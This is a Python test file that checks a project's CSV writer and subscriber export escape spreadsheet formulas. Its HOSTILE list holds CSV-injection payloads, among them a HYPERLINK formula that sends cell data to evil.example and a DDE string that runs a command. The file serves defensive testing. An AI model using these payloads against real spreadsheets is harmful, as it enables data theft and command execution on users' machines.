"""Issue 12 item 6: no CSV the project writes can carry a spreadsheet formula."""

from __future__ import annotations

import csv
import io

from hypothesis import given, settings
from hypothesis import strategies as st

from pipeline.wiring import Pulse
from pulse_core.database import transaction, utcnow
from subscribers.models import Subscriber, SubscriberStatus
from subscribers.spreadsheet import FORMULA_TRIGGERS, safe_writer
from tests.conftest import Cli

HOSTILE = [
    '=HYPERLINK("https://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
]


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


@settings(max_examples=300, deadline=None)
@given(st.lists(st.text(max_size=30) | st.sampled_from(HOSTILE), max_size=8))
def test_no_written_cell_starts_a_formula_and_nothing_else_changes(row: list[str]) -> None:
    out = io.StringIO()
    safe_writer(out).writerow(row)
    cells = _cells(out.getvalue())
    assert len(cells) == len(row)
    for written, original in zip(cells, row, strict=True):
        assert not written.startswith(FORMULA_TRIGGERS)
        assert written in (original, "'" + original)


def test_pulse_subscribers_export_guards_names_addresses_and_user_agents(
    pulse: Pulse, cli: Cli
) -> None:
    now = utcnow()
    with transaction(pulse.db.sessions) as session:
        for n, value in enumerate(HOSTILE):
            session.add(
                Subscriber(
                    email=f"-{n}@example.com" if n % 2 else f"a{n}@example.com",
                    email_key=f"{n}@example.com",
                    first_name=value[:100],
                    status=SubscriberStatus.ACTIVE,
                    created_at=now,
                    updated_at=now,
                    consent_user_agent=value,
                    consent_source=value,
                    consent_text=value,
                )
            )
    result = cli("subscribers", "export")
    assert result.exit_code == 0
    cells = _cells(result.stdout)
    assert len(cells) > len(HOSTILE) * 5
    assert not [cell for cell in cells if cell.startswith(FORMULA_TRIGGERS)]
    assert "'=HYPERLINK" in result.stdout and "'-1@example.com" in result.stdout
